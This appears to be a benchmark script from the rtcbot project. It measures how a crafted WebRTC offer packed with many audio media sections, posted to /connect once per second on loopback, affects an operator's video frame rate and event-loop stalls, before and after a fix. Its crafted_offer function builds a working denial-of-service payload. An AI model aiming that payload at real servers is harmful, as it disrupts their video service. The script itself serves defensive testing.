"""What a stranger's crafted offers cost a video robot: loop blocking and the operator's fps.

Usage::

    python bench/attack_connect.py                       # this checkout's rtcbot
    python bench/attack_connect.py --before-src DIR      # also another rtcbot source tree
                                                         # (e.g. an older commit), same run

One robot (``ConnectionServer``, a 320x240 test pattern at 30 fps to every client) on
loopback; one operator (a Python ``RTCConnection``) watching its video; for ``--seconds`` the
operator's received frames are counted, first with nobody else around (the baseline), then
while an attacker POSTs an offer with ``--m-lines`` media sections (about 45 KB for 180) once
per second. Printed as JSON: the operator's fps in both phases, the longest event-loop stall
seen by a 5 ms ticker, and the attacker's statuses. Each source tree runs in its own
subprocess.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import subprocess
import sys
import time

_HERE = os.path.dirname(os.path.abspath(__file__))
_SRC = os.path.join(os.path.dirname(_HERE), "src")


async def crafted_offer(m_lines: int) -> dict[str, str]:
    """A valid-looking offer of ``m_lines`` small audio sections (what the attack sends)."""
    from aiortc import RTCConfiguration, RTCPeerConnection

    pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    pc.addTransceiver("audio", direction="sendonly")
    await pc.setLocalDescription(await pc.createOffer())
    text = pc.localDescription.sdp
    await pc.close()
    head, section = text.split("\r\nm=")[:2]
    lines = ("m=" + section).split("\r\n")
    body = [x for x in lines if x.startswith(("c=", "a=sendonly", "a=rtpmap:0", "a=setup",
                                              "a=rtcp-mux"))]
    body += [x for x in lines if x.startswith("a=candidate")][:1]
    session = [x for x in lines if x.startswith(("a=ice-ufrag", "a=ice-pwd",
                                                 "a=fingerprint:sha-256"))]
    out = [head.replace("a=group:BUNDLE 0", "a=group:BUNDLE"), *session]
    for i in range(m_lines):
        out += ["m=audio 9 UDP/TLS/RTP/SAVPF 0", f"a=mid:{i}", f"a=msid:s{i} t{i}", *body]
    return {"type": "offer", "sdp": "\r\n".join(out) + "\r\n"}


async def scenario(seconds: float, m_lines: int) -> dict:
    import aiohttp
    from aiohttp import web

    import rtcbot
    from rtcbot import RTCConnection
    from rtcbot.devices.sources import TestPattern
    from rtcbot.web import add_rtcbot_routes

    pattern = TestPattern(width=320, height=240, fps=30)

    def on_connection(conn):
        conn.video.putSubscription(pattern.subscribe())

    app = web.Application()
    add_rtcbot_routes(app, on_connection, rtc_configuration=[])
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    base = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}"

    stalls: list[float] = []
    running = True

    async def ticker() -> None:
        last = time.perf_counter()
        while running:
            await asyncio.sleep(0.005)
            now = time.perf_counter()
            stalls.append(now - last - 0.005)
            last = now

    frames = 0

    async def watch(conn) -> None:
        nonlocal frames
        while True:
            await conn.video.get()
            frames += 1

    result: dict = {"rtcbot": os.path.dirname(rtcbot.__file__), "m_lines": m_lines}
    tick = asyncio.ensure_future(ticker())
    operator = RTCConnection(rtcConfiguration=[])
    operator.video.offerToReceive()
    async with aiohttp.ClientSession() as session:
        async with session.post(f"{base}/connect",
                                json=await operator.getLocalDescription()) as resp:
            await operator.setRemoteDescription(await resp.json())
        async with asyncio.timeout(20):
            await operator.onReady()
            await operator.video.get()  # the first frame: video flows
        watcher = asyncio.ensure_future(watch(operator))
        offer = await crafted_offer(m_lines)
        result["offer_bytes"] = len(json.dumps(offer))

        for phase in ("alone", "under_attack"):
            stalls.clear()
            frames = 0
            start = time.perf_counter()
            statuses: list[int] = []
            while time.perf_counter() - start < seconds:
                if phase == "under_attack":
                    async with session.post(f"{base}/connect", json=offer) as resp:
                        await resp.read()
                        statuses.append(resp.status)
                await asyncio.sleep(1.0)
            elapsed = time.perf_counter() - start
            result[phase] = {
                "operator_fps": round(frames / elapsed, 1),
                "max_loop_stall_ms": round(max(stalls, default=0) * 1000, 1),
                "attack_statuses": sorted(set(statuses)),
                "attack_requests": len(statuses),
            }
        result["operator_still_connected"] = operator.ready
        watcher.cancel()
    await operator.close()
    running = False
    await tick
    pattern.close()
    await runner.cleanup()
    return result


def run_in(src: str, seconds: float, m_lines: int) -> dict:
    env = dict(os.environ, PYTHONPATH=src)
    out = subprocess.run(
        [sys.executable, __file__, "--child", "--seconds", str(seconds), "--m-lines",
         str(m_lines)],
        env=env, capture_output=True, text=True, timeout=seconds * 4 + 120, check=False,
    )
    if out.returncode != 0:
        return {"src": src, "error": out.stderr[-2000:]}
    return json.loads(out.stdout)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--m-lines", type=int, default=180)
    parser.add_argument("--before-src", default=None,
                        help="another rtcbot source tree (its src/ folder) to measure too")
    parser.add_argument("--child", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.child:
        print(json.dumps(asyncio.run(scenario(args.seconds, args.m_lines))))
        return
    report = {"load_average": os.getloadavg(),
              "after": run_in(_SRC, args.seconds, args.m_lines)}
    if args.before_src:
        report["before"] = run_in(args.before_src, args.seconds, args.m_lines)
    report["load_average_end"] = os.getloadavg()
    print(json.dumps(report, indent=1))


if __name__ == "__main__":
    main()
